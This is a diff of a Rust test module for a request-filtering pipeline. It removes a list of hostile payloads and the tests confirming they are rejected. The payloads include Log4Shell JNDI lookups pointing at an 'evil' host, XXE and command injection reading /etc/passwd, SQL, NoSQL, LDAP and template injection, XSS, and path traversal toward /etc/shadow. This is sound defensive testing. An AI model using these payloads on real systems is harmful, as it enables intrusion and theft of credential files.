@@ -1,10 +1,8 @@
 //! What the last stages find in payloads, take out of them, and make of it all.
 
-use portcullis_common::stage::{Stage, Stages};
-
 use super::*;
 
-const TYPES: &str = r#"
+pub(super) const TYPES: &str = r#"
 [message.post]
 roles = ["member"]
 route = "room"
@@ -40,71 +38,6 @@ fn through(bench: &mut Bench, kind: &str, payload: &str) -> Result<String, Rejec
         Verdict::Reject { reject, .. } => Err(reject),
         Verdict::Park(key) => panic!("{key:?}"),
     }
-}
-
-/// Kind, payload, code.
-const HOSTILE: &[(Stage, &str, &str, Code)] = &[
-    (Stage::Signatures, "chat", r#"{"filter":{"$gt":""}}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"filter":{"$ne":null}}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"a":[{"$where":"1"}]}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"\u0024regex":".*"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"text":"${jndi:ldap://evil/a}"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"text":"\u0024{jndi:rmi://x}"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"text":"%24%7bjndi:ldap://x%7d"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"text":"${${::-j}ndi:dns://x}"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"{"xml":"<!ENTITY % p SYSTEM 'file:///etc/passwd'>"}"#, Code::Forbidden),
-    (Stage::Signatures, "chat", r#"["rO0ABXNyABFqYXZh"]"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"x' OR '1'='1"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"1 UNION/**/SELECT password"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"<script>alert(1)</script>"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"%3Cscript%3Ealert(1)"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"a":{"b":[["{{7*7}}"]]}}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"x; cat /etc/passwd"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"*)(uid=*))(|(uid=*"}"#, Code::Forbidden),
-    (Stage::Signatures, "strict", r#"{"text":"../../../etc/shadow"}"#, Code::Forbidden),
-    (Stage::Sanitise, "post", r#"{"file":"../../x"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"/etc/x"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"C:\\x"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"\\\\host\\x"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"a\u0000.png"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"%2e%2e%2fx"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"%252e%252e%252fx"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"%c0%ae%c0%ae/x"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"a/b\\c"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":"NUL.txt"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"files":[{"name":"ok"},{"name":"../no"}]}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"file":{"a":"../x"}}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"text":["<script>"]}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "post", r#"{"text":7}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "strict", r#"{"text":"a\u0000b"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "strict", r#"{"text":"exe\u202etxt"}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "chat", r#"{"a\u0007b":1}"#, Code::SchemaInvalid),
-    (Stage::Sanitise, "chat", r#"{"a":{"\u202eb":1}}"#, Code::SchemaInvalid),
-];
-
-#[test]
-fn hostile_payloads_get_their_answer_and_without_the_stage_they_pass() {
-    for (stage, kind, payload, code) in HOSTILE {
-        let mut bench = Bench::with(TYPES);
-        let refused = through(&mut bench, kind, payload);
-        assert_eq!(refused.as_ref().map_err(|r| r.code), Err(*code), "{payload}: {refused:?}");
-        bench.policy.off = Stages::NONE.with(*stage);
-        assert!(through(&mut bench, kind, payload).is_ok(), "{payload} is stopped by another stage than {stage}");
-    }
-}
-
-#[test]
-fn in_a_dry_run_they_pass_unchanged_and_are_noted() {
-    for (stage, kind, payload, code) in HOSTILE {
-        let mut bench = Bench::with(&format!("{TYPES}\n[pipeline]\ndry_run = [\"{stage}\"]"));
-        let text = message(kind, payload).replace("TOKEN", &bench.token);
-        let checked = bench.check(Frame::Text(&text));
-        assert!(checked.notes.iter().any(|note| note.stage == *stage && note.reject.code == *code), "{payload}");
-        assert!(matches!(checked.verdict, Verdict::Pass(_)), "{payload}");
-    }
-    let mut bench = Bench::with(&format!("{TYPES}\n[pipeline]\ndry_run = [\"sanitise\"]"));
-    let payload = r#"{"text":"<script>x</script>"}"#;
-    assert_eq!(through(&mut bench, "post", payload).unwrap(), payload);
 }
 
 #[test]
